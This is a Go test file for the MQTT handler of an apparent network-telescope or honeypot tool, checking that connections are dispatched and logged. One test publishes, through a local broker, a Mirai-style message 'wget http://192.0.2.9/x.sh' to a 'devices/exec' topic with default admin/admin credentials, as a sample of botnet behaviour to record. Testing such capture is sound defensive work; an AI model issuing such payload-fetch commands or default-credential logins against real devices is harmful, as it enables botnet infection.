package mqtt_test

import (
	"net"
	"os/exec"
	"reflect"
	"testing"
	"time"

	"github.com/spoki-telescope/spoki/handlers"
	"github.com/spoki-telescope/spoki/handlers/generic"
	"github.com/spoki-telescope/spoki/handlers/handlerstest"
	"github.com/spoki-telescope/spoki/handlers/mqtt"
)

// TestAddHandler is the worked example's test: it adds the mqtt handler to
// a fresh Registry with one Register line and dispatches a connection to
// it through an unmodified Mux, by content (the local port is not 1883) as
// well as by port.
func TestAddHandler(t *testing.T) {
	tests := []struct {
		name string
		port uint16
	}{
		{"by content", 8080},
		{"by port", 1883},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			reg := handlers.NewRegistry(generic.New(generic.Config{}))
			reg.Register(mqtt.New(mqtt.Config{}), handlers.Matcher{Content: mqtt.Match, Ports: mqtt.Ports})
			mux, rec := handlerstest.NewMux(t, handlers.MuxConfig{Registry: reg})
			server, client := handlerstest.TCPPair(t)
			go mux.ServeConn(server, handlerstest.Flow(server, tc.port))

			// CONNECT (3.1.1, client id "c", user "root", password "admin"),
			// then DISCONNECT.
			connect := "\x10\x1a\x00\x04MQTT\x04\xc2\x00\x3c\x00\x01c\x00\x04root\x00\x05admin"
			if _, err := client.Write([]byte(connect)); err != nil {
				t.Fatal(err)
			}
			ack := make([]byte, 4)
			_ = client.SetReadDeadline(time.Now().Add(5 * time.Second))
			if _, err := client.Read(ack); err != nil || string(ack) != "\x20\x02\x00\x00" {
				t.Fatalf("CONNACK = %q, %v; want \\x20\\x02\\x00\\x00", ack, err)
			}
			if _, err := client.Write([]byte("\xe0\x00")); err != nil {
				t.Fatal(err)
			}

			s := rec.Wait(t, 1)[0]
			want := mqtt.Detail{
				Connect: mqtt.Connect{ProtocolName: "MQTT", ProtocolLevel: 4, ClientID: "c", Username: "root",
					Password: "admin", HasUsername: true, HasPassword: true, KeepAlive: 60},
				Then: []string{"DISCONNECT"},
			}
			if s.AppProto != mqtt.Name || !reflect.DeepEqual(s.Detail, want) || s.Error != "" {
				t.Errorf("session %s %+v, error %q; want %s %+v, none", s.AppProto, s.Detail, s.Error, mqtt.Name, want)
			}
		})
	}
}

// TestMosquittoPub publishes with the real mosquitto_pub client through a
// Mux on a loopback listener.
func TestMosquittoPub(t *testing.T) {
	pub := handlerstest.RequireTool(t, "mosquitto_pub", "mosquitto-clients")
	reg := handlers.NewRegistry(generic.New(generic.Config{}))
	reg.Register(mqtt.New(mqtt.Config{}), handlers.Matcher{Content: mqtt.Match, Ports: mqtt.Ports})
	addr, rec := handlerstest.Serve(t, handlers.MuxConfig{Registry: reg}, 1883)
	_, port, _ := net.SplitHostPort(addr)
	out, err := exec.Command(pub, "-h", "127.0.0.1", "-p", port, "-i", "mirai-3", "-u", "admin", "-P", "admin",
		"-t", "devices/exec", "-m", "wget http://192.0.2.9/x.sh", "-V", "mqttv311").CombinedOutput()
	if err != nil {
		t.Fatalf("mosquitto_pub: %v: %s", err, out)
	}
	s := rec.Wait(t, 1)[0]
	d, ok := s.Detail.(mqtt.Detail)
	if !ok || d.ClientID != "mirai-3" || d.Username != "admin" || d.Password != "admin" ||
		!reflect.DeepEqual(d.Then, []string{"PUBLISH", "DISCONNECT"}) {
		t.Errorf("detail %+v; want client mirai-3, admin/admin, then PUBLISH, DISCONNECT", s.Detail)
	}
}
